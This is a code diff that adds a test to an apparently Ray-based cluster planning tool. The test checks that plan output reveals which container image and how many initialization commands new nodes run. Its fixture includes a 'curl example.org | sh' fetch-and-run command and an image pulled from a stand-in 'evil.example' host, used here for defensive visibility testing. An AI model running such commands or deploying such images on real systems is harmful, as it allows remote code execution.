@@ -19,6 +19,26 @@ def test_pools_and_cost_come_first_and_the_summary_last(home):
     assert text.startswith('  POOL') and text.endswith(' to add, 0 to change, 0 to destroy.\n')
 
 
+def test_whose_code_new_nodes_run_is_shown(home):
+    """Their attributes have only a compressed text of it."""
+    home.write('cluster.yaml', spec(pools={'serve': 1, 'batch': 1}, extra='setup_commands: [first, second]\n').replace(
+        'batch: {', 'batch: {env: {A: b}, initialization_commands: [curl example.org | sh], '
+        'mounts: [{type: nfs4, source: "a.example.org:/", path: /mnt/a}], ').replace('rayproject/ray:', 'evil.example/ray:'))
+    image = 'ray.image evil.example/ray:2.52.0-py311-cu121'
+    common = f'New nodes of head, serve: {image}, setup_commands: 2'
+    own = f'New nodes of batch: {image}, initialization_commands: 1, setup_commands: 2, mounts: 1, env: 1'
+    plan = home.run('plan', '--report', f'markdown={home.path("report.md")}', '--out', 'p.json').out
+    for text in (plan, home.run('show', 'p.json').out):
+        assert common in ' '.join(text.split()) and own in ' '.join(text.split()), text
+    before, fold = home.read('report.md').replace('\\_', '_').split('<details>', 1)
+    assert common in before and own in before and 'curl' not in before + fold
+    assert 'New nodes of' not in home.run('plan', '--summary').out
+    home.apply('cluster.yaml', '--no-wait')
+    assert 'New nodes of' not in home.run('plan', '--verbose').out
+    home.write('cluster.yaml', home.read('cluster.yaml').replace('"T4:1", nodes: 1', '"T4:1", nodes: 2', 1))
+    assert f'New nodes of serve: {image}, setup_commands: 2' in ' '.join(home.run('plan').out.split())
+
+
 def test_what_resources_have_alike_is_shown_once(home):
     home.write('cluster.yaml', spec(pools={'serve': 2, 'batch': 1}))
     text = home.run('plan').out
